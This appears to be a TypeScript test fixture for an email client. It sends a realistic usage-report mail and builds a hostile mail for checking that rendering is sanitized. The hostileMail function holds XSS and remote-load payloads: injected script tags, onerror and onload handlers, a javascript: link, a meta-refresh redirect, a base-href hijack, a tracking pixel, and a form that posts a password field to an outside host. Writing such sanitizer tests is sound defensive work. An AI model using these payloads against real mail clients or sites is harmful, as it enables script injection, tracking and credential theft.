import nodemailer, { type SendMailOptions } from "nodemailer";
import sharp from "sharp";

/** Hands a mail in for somebody, as the app would. */
export async function sendMail(smtpUrl: string, mail: SendMailOptions): Promise<void> {
  await nodemailer.createTransport({ url: smtpUrl }).sendMail({
    from: "Vault Usage <usage@example.com>",
    to: "Tomas Vale <tomas.vale@example.com>",
    ...mail,
  });
}

const trend = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="1040" height="360"><rect width="100%" height="100%" fill="#fff"/>
  <g stroke="#e5e7eb">${[60, 150, 240, 330].map((y) => `<path d="M40 ${y}H1000"/>`).join("")}</g>
  <g fill="none" stroke-width="5"><path stroke="#0072b2" d="M40 200L240 150L440 170L640 90L840 120L1000 80"/>
  <path stroke="#009e73" d="M40 280L240 270L440 230L640 250L840 190L1000 170"/></g></svg>`,
);

const row = (name: string, figure: string, change: string): string =>
  `<tr><td style="padding:6px 0;border-bottom:1px solid #e5e7eb">${name}</td>
   <td align="right" style="border-bottom:1px solid #e5e7eb"><b>${figure}</b></td>
   <td align="right" style="border-bottom:1px solid #e5e7eb;color:#55606b">${change}</td></tr>`;

/** A weekly report: HTML with its chart in it, plain text, two files, and a way out. */
export async function reportMail(): Promise<SendMailOptions> {
  return {
    subject: "Product usage, last 30 days: 28 of 41 people were active",
    text: "28 of 41 people were active, 6 inactive.\n\nLogin Sessions  1,204\nSee https://usage.example.com/report?id=1.\n",
    html: `<!doctype html><html lang="en"><head><meta name="viewport" content="width=device-width"></head>
      <body style="margin:0;background:#f6f7f9;font:15px/1.5 Helvetica,Arial,sans-serif;color:#1d1c1d">
      <div style="display:none">Auto-fill grew by 12 %; sign-ins fell by 3 %.&#847;&zwnj;&#847;&zwnj;</div>
      <table role="presentation" width="100%"><tr><td align="center" style="padding:24px 8px">
      <table role="presentation" width="100%" style="max-width:560px;background:#fff;border-radius:8px"><tr><td style="padding:28px">
      <p style="margin:0;color:#55606b;font-size:13px">24 Oct – 22 Nov 2026 · Europe/Oslo</p>
      <h1 style="font-size:22px;margin:4px 0 12px">Product usage</h1>
      <p>28 of 41 people were active, 6 inactive. Auto-fill grew by 12 %; sign-ins fell by 3 %.</p>
      <img src="cid:trend@usage" alt="Trend of Login Sessions and Passwords Auto-filled" width="100%">
      <table role="presentation" width="100%" cellspacing="0">${row("Login Sessions", "1,204", "▼ 3 %")}
      ${row("Passwords Accessed", "497", "▲ 1 %")}${row("Passwords Auto-filled", "722", "▲ 12 %")}</table>
      <p><a href="https://usage.example.com/report" style="color:#00659e">Open the report in Slack</a></p>
      </td></tr></table></td></tr></table></body></html>`,
    headers: { "List-Unsubscribe": "<mailto:stop@example.com>, <https://usage.example.com/stop?t=1>" },
    attachments: [
      { filename: "trend.png", content: await sharp(trend).png().toBuffer(), cid: "trend@usage" },
      { filename: "Product usage 2026-11-22.pdf", content: Buffer.from(`%PDF-1.7\n${"x".repeat(84_000)}`) },
      { filename: "Product usage 2026-11-22.csv", content: "person,sessions\nZoë Ångström,41\n" },
    ],
  };
}

/** A mail that tries what must not succeed, with an address outside to try it with. */
export function hostileMail(outside: string): SendMailOptions {
  return {
    subject: `${"Überfällig und sehr wichtig ".repeat(11)} – مرحبا بكم في الخزنة`.slice(0, 330),
    from: { name: "مدير الخزنة <script>", address: "boss@example.com" },
    html: `<meta http-equiv="refresh" content="0;url=${outside}/refreshed">
      <base href="${outside}/" target="_top"><link rel="stylesheet" href="${outside}/style.css">
      <style>@import "${outside}/import.css"; body { background: url(${outside}/background.png) }</style>
      <script src="${outside}/script.js"></script><script>top.hacked = true; parent.location = "${outside}/moved"</script>
      <h1 id="title">Prize</h1><a id="outward" href="${outside}/outward">Read on</a><img src="${outside}/pixel.png"><img src="x" onerror="top.hacked = true">
      <img src="/scene?as=U0ADMIN"><iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object>
      <video poster="${outside}/poster.png" src="${outside}/video.mp4" autoplay></video>
      <a id="script" href="javascript:top.hacked = true">Collect</a>
      <form action="${outside}/form"><input name="password" value="1"><button id="submit">Send</button></form>
      <svg onload="top.hacked = true"><use href="${outside}/use.svg#a"/></svg>`,
  };
}
